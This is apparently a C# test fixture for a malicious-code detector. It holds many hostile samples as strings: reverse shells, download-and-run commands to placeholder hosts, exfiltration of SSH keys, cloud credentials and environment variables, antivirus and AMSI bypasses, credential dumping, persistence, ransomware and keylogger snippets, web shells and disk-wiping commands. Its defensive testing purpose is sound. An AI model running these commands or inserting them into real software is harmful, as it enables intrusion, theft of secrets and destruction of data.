namespace Sluice.Inspection.Tests.Detection.Code;

/// <summary>Malicious code, written for these tests after techniques that are public knowledge; addresses are those set aside for documentation. Cases are separated by a line <c>===</c>.</summary>
internal static class MaliciousCodeCases
{
    public static string[] Shell { get; } = Split("""
        bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
        ===
        0<&196;exec 196<>/dev/tcp/192.0.2.7/4242; sh <&196 >&196 2>&196
        ===
        rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f
        ===
        nc -e /bin/sh 192.0.2.7 4444
        ===
        ncat 192.0.2.7 9001 -e /bin/bash || nc.traditional -e /bin/bash 192.0.2.7 9001
        ===
        socat TCP:192.0.2.7:4444 EXEC:'/bin/bash',pty,stderr,setsid,sigint,sane
        ===
        curl -s http://192.0.2.7/x.sh | bash
        ===
        wget -qO- http://198.51.100.3:8080/a | sh
        ===
        curl -fsSL https://pastebin.com/raw/abcd1234 | bash
        ===
        echo Y3VybCBldmlsLmV4YW1wbGUvYS5zaHxzaA== | base64 -d | bash
        ===
        echo "636174202f" | xxd -r -p | sh
        ===
        cd /dev/shm && wget http://evil.example/m && chmod +x m && ./m
        ===
        (crontab -l; echo "*/5 * * * * curl -s http://evil.example/u.sh | bash") | crontab -
        ===
        cat ~/.ssh/id_rsa | curl -X POST --data-binary @- http://evil.example/k
        ===
        tar czf - ~/.aws/credentials | curl -T - http://evil.example/up
        ===
        wget http://evil.example/xmrig.tar.gz && tar xf xmrig.tar.gz && nohup ./xmrig -o stratum+tcp://pool.example:3333 &
        ===
        echo /lib/evil.so > /etc/ld.so.preload
        ===
        rm -rf --no-preserve-root /
        ===
        dd if=/dev/zero of=/dev/sda bs=1M
        ===
        :(){ :|:& };:
        ===
        /bin/busybox wget http://192.0.2.7/mips; chmod 777 mips; ./mips
        ===
        cat /etc/shadow | nc 192.0.2.7 9999
        """);

    public static string[] PowerShell { get; } = Split("""
        powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
        ===
        IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')
        ===
        powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iwr http://evil.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"
        ===
        $c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}
        while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = [Text.Encoding]::ASCII.GetString($b,0,$i); $r = (iex $d 2>&1 | Out-String); $s.Write($r) }
        ===
        iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('d3JpdGU=')))
        ===
        Set-MpPreference -DisableRealtimeMonitoring $true
        ===
        [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
        ===
        Invoke-Mimikatz -DumpCreds
        ===
        rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full
        ===
        New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name upd -Value "powershell -w hidden -enc SQBFAFgA"
        ===
        vssadmin delete shadows /all /quiet; bcdedit /set {default} recoveryenabled No
        ===
        schtasks /create /tn Updater /tr "powershell -w hidden -c iex(irm http://evil.example/p)" /sc minute
        ===
        Get-ChildItem C:\Users -Recurse -File | ForEach-Object { Encrypt-File $_.FullName }; Set-Content README_DECRYPT.txt "Send 1 bitcoin to get your files back"
        """);

    public static string[] Python { get; } = Split("""
        import socket,subprocess,os
        s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
        s.connect(("192.0.2.7",4444))
        os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
        subprocess.call(["/bin/sh","-i"])
        ===
        import socket,pty,os;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")
        ===
        import base64
        exec(base64.b64decode("cHJpbnQoMSk="))
        ===
        exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))
        ===
        import requests
        exec(requests.get("http://evil.example/stage2.py").text)
        ===
        from pynput import keyboard
        import smtplib
        def on_press(key):
            with open("log.txt", "a") as f:
                f.write(str(key))
        keyboard.Listener(on_press=on_press).start()
        ===
        import os, sqlite3, win32crypt, json
        path = os.path.join(os.environ["LOCALAPPDATA"], r"Google\Chrome\User Data\Default\Login Data")
        rows = sqlite3.connect(path).execute("select action_url, username_value, password_value from logins")
        for r in rows:
            print(r[0], win32crypt.CryptUnprotectData(r[2])[1])
        ===
        import os
        from cryptography.fernet import Fernet
        f = Fernet(Fernet.generate_key())
        for root, _, files in os.walk("/home"):
            for name in files:
                p = os.path.join(root, name)
                data = f.encrypt(open(p, "rb").read())
                open(p + ".locked", "wb").write(data)
                os.remove(p)
        open("README.txt", "w").write("Your files are encrypted. Pay 0.5 BTC to the wallet below.")
        ===
        import os, requests
        requests.post("https://discord.com/api/webhooks/1/abc", json={"e": dict(os.environ)})
        ===
        import ctypes
        p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)
        ctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))
        ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
        ===
        from setuptools import setup
        import base64
        eval(compile(base64.b64decode("cHJpbnQoMSk="), "<s>", "exec"))
        setup(name="requestz", version="1.0")
        """);

    public static string[] Scripts { get; } = Split("""
        (function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
        var client = new net.Socket(); client.connect(4444, "192.0.2.7", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); }); })();
        ===
        eval(atob("YWxlcnQoMSk="));
        ===
        eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());
        ===
        eval(String.fromCharCode(97,108,101,114,116,40,49,41));
        ===
        const https = require('https'); const req = https.request({ host: 'evil.example', method: 'POST' });
        req.write(JSON.stringify(process.env)); req.end();
        ===
        var sh = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", "http://evil.example/a.exe", false); x.send();
        var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile("a.exe"); sh.Run("a.exe");
        ===
        Set h = CreateObject("MSXML2.XMLHTTP")
        h.Open "GET", "http://evil.example/p.exe", False
        h.Send
        Set s = CreateObject("ADODB.Stream")
        s.Type = 1 : s.Open : s.Write h.responseBody : s.SaveToFile "p.exe", 2
        CreateObject("WScript.Shell").Run "p.exe", 0
        ===
        Sub AutoOpen()
            Shell "powershell -w hidden -c IEX((New-Object Net.WebClient).DownloadString('http://evil.example/a'))", 0
        End Sub
        ===
        Private Sub Workbook_Open()
            Dim sh : Set sh = CreateObject("WScript.Shell")
            sh.Run "cmd /c certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\a.exe && %TEMP%\a.exe", 0
        End Sub
        ===
        @echo off
        certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\a.exe
        start /b %TEMP%\a.exe
        ===
        bitsadmin /transfer j /download http://evil.example/a.exe C:\Users\Public\a.exe & C:\Users\Public\a.exe
        ===
        reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d "%APPDATA%\upd.exe" /f
        ===
        mshta http://evil.example/a.hta
        ===
        regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll
        ===
        reg save HKLM\SAM C:\temp\sam.hiv & reg save HKLM\SYSTEM C:\temp\system.hiv
        ===
        perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")));open(STDIN,">&S");exec("/bin/sh -i");'
        ===
        use MIME::Base64;
        eval(decode_base64("cHJpbnQgMTs="));
        ===
        <?php eval($_POST['x']); ?>
        ===
        <?php system($_GET['cmd']); ?>
        ===
        <?php eval(gzinflate(base64_decode('S0ktKwYA'))); ?>
        ===
        php -r '$s=fsockopen("192.0.2.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
        ===
        ruby -rsocket -e 'f=TCPSocket.open("192.0.2.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
        ===
        wevtutil cl Security
        vssadmin delete shadows /all /quiet
        """);

    private static string[] Split(string cases) => [.. cases.Split("\n===\n").Select(c => c.Trim('\n'))];
}
